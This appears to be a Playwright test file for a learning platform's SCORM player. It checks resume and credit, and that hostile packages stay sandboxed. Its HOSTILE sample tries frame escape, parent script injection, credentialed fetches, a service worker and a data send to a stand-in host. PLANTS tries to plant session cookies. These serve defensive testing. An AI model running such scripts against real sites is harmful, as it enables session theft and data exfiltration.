"""Does a SCORM package play, keep its place, resume and earn, in a real browser, and does a hostile one get nothing?"""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect
from sqlalchemy import select, update

from lms.db import database, transaction
from lms.learning.models import ActivityState, Launch
from tests.browser.own_content import give_package
from tests.browser.phone import phone, sign_in
from tests.browser.publishing import no_finding
from tests.browser.studying import SOON_MS, credited, sound, statements, wait_for
from tests.scorm_packages import item, lesson, manifest, resource, two_units, zipped
from tests.site import Site

COMPLETED = "http://adlnet.gov/expapi/verbs/completed"
BLOCKED = "Content Security Policy|Blocked|sandbox|ERR_BLOCKED|Failed to (load|register)|SecurityError|frame-src|violates|404|ServiceWorker"


@pytest.fixture
def visitor(browser: Browser, site: Site) -> Iterator[BrowserContext]:
    with phone(browser, site, "nothing") as context:
        yield context


def pages_of(page: Page):  # type: ignore[no-untyped-def]
    """Return the package's own pages, inside our frame on its host."""
    return page.frame_locator("[data-frame]").frame_locator("iframe")


def test_a_package_plays_keeps_its_place_resumes_and_is_credited(site: Site, visitor: BrowserContext, tmp_path: Path) -> None:
    address, code = give_package(site, tmp_path, lesson())
    page = sign_in(visitor, site, "teacher")
    page.wait_for_url("**/home")
    page.goto(address)
    expect(pages_of(page).get_by_text("|ab-initio")).to_be_visible(timeout=SOON_MS)
    expect(page.locator("[data-clock-root]")).to_have_attribute("data-state", "counting", timeout=SOON_MS)
    pages_of(page).get_by_role("button", name="下一页").click()
    pages_of(page).get_by_role("button", name="下一页").click()
    expect(pages_of(page).get_by_text("第 3 页")).to_be_visible()

    page.goto(site.address)  # without a word to the package
    page.goto(address)
    expect(pages_of(page).get_by_text("读到2|resume")).to_be_visible(timeout=SOON_MS)
    expect(pages_of(page).get_by_text("第 3 页")).to_be_visible()
    assert statements(site, COMPLETED) == 0
    pages_of(page).get_by_role("button", name="交卷").click()
    frame = page.frame_locator("[data-frame]")
    expect(frame.get_by_text("这个单元已经结束")).to_be_visible(timeout=SOON_MS)
    wait_for(page, lambda: credited(site).get(f"{code}:main", 0) > 0, "completion opens the gate, and the time of presence counts")
    assert credited(site)[f"{code}:main"] < 1800, "99 hours of session time are a claim"
    assert sound(site)


def test_units_are_chosen_freely_and_shown_as_completed(site: Site, visitor: BrowserContext, tmp_path: Path) -> None:
    address, _code = give_package(site, tmp_path, two_units())
    page = sign_in(visitor, site, "teacher")
    page.wait_for_url("**/home")
    page.goto(address)
    frame = page.frame_locator("[data-frame]")
    expect(frame.get_by_role("button", name="目录：甲（1/2）")).to_be_visible(timeout=SOON_MS)
    pages_of(page).get_by_role("button", name="完成").click()
    expect(frame.get_by_role("button", name="目录：乙（2/2）")).to_be_visible(timeout=SOON_MS)
    frame.get_by_role("button", name="目录").press("Enter")
    expect(frame.get_by_role("button", name=re.compile("甲.*已完成"))).to_be_visible()
    no_finding(page)
    assert statements(site, COMPLETED) == 0
    frame.get_by_role("button", name=re.compile("^乙")).click()
    pages_of(page).get_by_role("button", name="完成").click()
    wait_for(page, lambda: statements(site, COMPLETED) == 1, "both units are completed")


HOSTILE = """<!doctype html><html lang="zh"><meta charset="utf-8"><title>恶意</title><h1>恶意</h1><pre id="got"></pre>
<script>
  const got = {};
  const attempt = (name, act) => { try { got[name] = act() ?? null; } catch (error) { got[name] = "refused"; } };
  const app = APP, other = OTHER;
  attempt("page", () => top.document.title);
  attempt("storage of the page", () => top.localStorage.length);
  attempt("cookies here", () => document.cookie);
  attempt("navigation", () => { top.location.href = app + "/login"; });
  attempt("window", () => (window.open(app + "/home") ? "opened" : "refused"));
  attempt("keys of presence", () => (parent.TH ? "there" : "none"));
  const code = parent.document.createElement("script");
  code.textContent = "window.stolen = 1";
  parent.document.body.append(code);
  attempt("code in our frame", () => (parent.stolen ? "ran" : "refused"));
  attempt("code made of text", () => { parent.eval("window.stolen = 1"); return "ran"; });
  const later = async () => {
    const tried = async (name, act) => { try { got[name] = await act(); } catch (error) { got[name] = "refused"; } };
    await tried("the app", () => fetch(app + "/home", { credentials: "include" }).then((answer) => answer.text()));
    await tried("another package", () => fetch(other).then((answer) => answer.text()));
    await tried("another package's image", () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: () => resolve("shown"), onerror: reject, src: other.replace("index.html", "a.png") })));
    await tried("elsewhere", () => fetch("https://elsewhere.example/?stolen").then(() => "sent"));
    await tried("service worker", () => navigator.serviceWorker.register("worker.js").then(() => "registered"));
    await tried("worker", () => new Promise((resolve, reject) => { const one = new Worker("worker.js"); one.onmessage = () => resolve("ran"); one.onerror = reject; setTimeout(reject, 1500); }));
    const inner = document.createElement("iframe");
    inner.src = app + "/home";
    document.body.append(inner);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await tried("the app in a frame", () => inner.contentDocument.title);
    document.getElementById("got").textContent = JSON.stringify(got);
    parent.document.documentElement.dataset.got = JSON.stringify(got);
    location.href = "https://elsewhere.example/?navigated"; // what is asked elsewhere fails the test; the browser's own page comes instead
  };
  later();
</script></html>"""


def test_a_hostile_package_gets_nothing(browser: Browser, site: Site, tmp_path: Path) -> None:
    other, _code = give_package(site, tmp_path, lesson(), "other.zip")
    with phone(browser, site, BLOCKED) as context:
        page = sign_in(context, site, "teacher")
        page.wait_for_url("**/home")
        page.goto(other)
        expect(pages_of(page).get_by_text("垃圾分类")).to_be_visible(timeout=SOON_MS)
        its_page = page.frames[2].url
        scripts = HOSTILE.replace("APP", json.dumps(site.address)).replace("OTHER", json.dumps(its_page))
        hostile = {"imsmanifest.xml": manifest(item("x"), resource("x")), "x.html": scripts, "worker.js": "postMessage(1)"}
        address, _code = give_package(site, tmp_path, zipped(hostile), "hostile.zip")
        page.goto(address)
        frame = page.frames[1]
        expect(frame.locator("html")).to_have_attribute("data-got", re.compile("elsewhere"), timeout=SOON_MS)
        got = json.loads(frame.locator("html").get_attribute("data-got") or "")
        assert got.pop("cookies here") == ""
        assert got.pop("keys of presence") == "none"
        assert {name: one for name, one in got.items() if one not in ("refused", None)} == {}
        assert page.url == address, "the page around stays where it is"
        assert len(context.pages) == 1
        assert context.request.get(f"{site.address}/home").status == 200, "the teacher is still signed in"


PLANTS = """<!doctype html><html lang="zh"><meta charset="utf-8"><title>栽赃</title><h1>栽赃</h1><script>
  for (const domain of ["localhost", ".localhost", location.hostname]) document.cookie = `session=planted; Domain=${domain}; Path=/`;
  document.cookie = "mine=here; Path=/";
</script></html>"""


def test_a_cookie_that_a_package_plants_stays_with_its_own_host(browser: Browser, site: Site, tmp_path: Path) -> None:
    """Opened as a page of its own, too, where browsers take more cookies than in a frame. Over https, the names of ours add to that."""
    address, _code = give_package(site, tmp_path, zipped({"imsmanifest.xml": manifest(item("p"), resource("p")), "p.html": PLANTS}))
    with phone(browser, site, "404") as context:  # of the picture that a browser asks every host for
        page = sign_in(context, site, "teacher")
        page.wait_for_url("**/home")
        before = {one["value"] for one in context.cookies(site.address) if one["name"] == "session"}
        page.goto(address)
        expect(pages_of(page).get_by_text("栽赃")).to_be_visible(timeout=SOON_MS)
        page.goto(page.frames[2].url)
        planted = {one["domain"] for one in context.cookies() if one["value"] in {"planted", "here"}}
        assert planted
        assert all(re.fullmatch(r"\.?[a-z2-7]{32}\.localhost", domain) for domain in planted)
        assert {one["value"] for one in context.cookies(site.address) if one["name"] == "session"} == before
        page.goto(f"{site.address}/home")
        assert page.url.endswith("/home"), "the teacher is still signed in"


def test_the_next_person_at_a_shared_computer_finds_nothing_of_the_last(browser: Browser, site: Site, tmp_path: Path) -> None:
    """Opened as pages of their own, because a private window gives no storage to frames."""
    keeps = "<!doctype html><meta charset=utf-8><h1 id=h>一</h1><script>try { h.textContent = '看到：' + localStorage.place; localStorage.place = 7 } catch {}</script>"
    address, _code = give_package(site, tmp_path, zipped({"imsmanifest.xml": manifest(item("k"), resource("k")), "k.html": keeps}))
    with phone(browser, site, "404") as context:  # of the picture that a browser asks every host for
        for _person in range(2):
            page = sign_in(context, site, "teacher")
            page.wait_for_url("**/home")
            page.goto(address)
            expect(pages_of(page).get_by_role("heading")).to_be_visible(timeout=SOON_MS)
            page.goto(page.frames[2].url)
            expect(page.get_by_role("heading")).to_have_text("看到：undefined")
            page.reload()
            expect(page.get_by_role("heading")).to_have_text("看到：7")
            context.clear_cookies(domain="localhost")  # as signing out does
            page.close()


def test_what_a_package_reports_after_its_session_ended_is_kept_once_the_session_is_opened_again(
    browser: Browser, site: Site, tmp_path: Path
) -> None:
    address, _code = give_package(site, tmp_path, lesson())
    with phone(browser, site, "401|410") as context:
        page = sign_in(context, site, "teacher")
        page.wait_for_url("**/home")
        page.goto(address)
        expect(page.locator("[data-clock-root]")).to_have_attribute("data-state", "counting", timeout=SOON_MS)
        with site.app.app_context(), transaction() as session:  # as signing out on another device does
            session.execute(update(Launch).values(ended_at=site.app.extensions["clock"](), live=False))
        pages_of(page).get_by_role("button", name="下一页").click()
        expect(page.locator("[data-refused]")).to_contain_text("在这里重新开始")
        page.get_by_role("button", name="在这里重新开始").click()
        wait_for(page, lambda: "读到1" in kept_state(site), "what waited on the page is kept")
        expect(page.locator("[data-refused]")).to_be_hidden()
        pages_of(page).get_by_role("button", name="下一页").click()
        wait_for(page, lambda: "读到2" in kept_state(site), "and so is what came later")


def test_a_unit_that_loads_again_after_the_lease_was_taken_back_begins_where_it_is_now(
    browser: Browser, site: Site, tmp_path: Path
) -> None:
    address, _code = give_package(site, tmp_path, lesson())
    with phone(browser, site, "409") as context:
        page = sign_in(context, site, "teacher")
        page.wait_for_url("**/home")
        page.goto(address)
        expect(page.locator("[data-clock-root]")).to_have_attribute("data-state", "counting", timeout=SOON_MS)
        other = context.new_page()
        other.goto(address)
        expect(other.locator("[data-clock-root]")).to_have_attribute("data-state", "counting", timeout=SOON_MS)
        other.close()
        page.get_by_role("button", name="改在这里学习").click()
        expect(page.locator("[data-clock-root]")).to_have_attribute("data-state", "counting", timeout=SOON_MS)
        pages_of(page).get_by_role("button", name="下一页").click()
        wait_for(page, lambda: "读到1" in kept_state(site), "the place is kept")
        page.frames[1].evaluate("location.reload()")  # as a frame does that the browser had put aside
        expect(pages_of(page).get_by_text("读到1|resume")).to_be_visible(timeout=SOON_MS)


def kept_state(site: Site) -> str:
    with site.app.app_context(), database().reader() as session:
        return " ".join(session.scalars(select(ActivityState.body)))
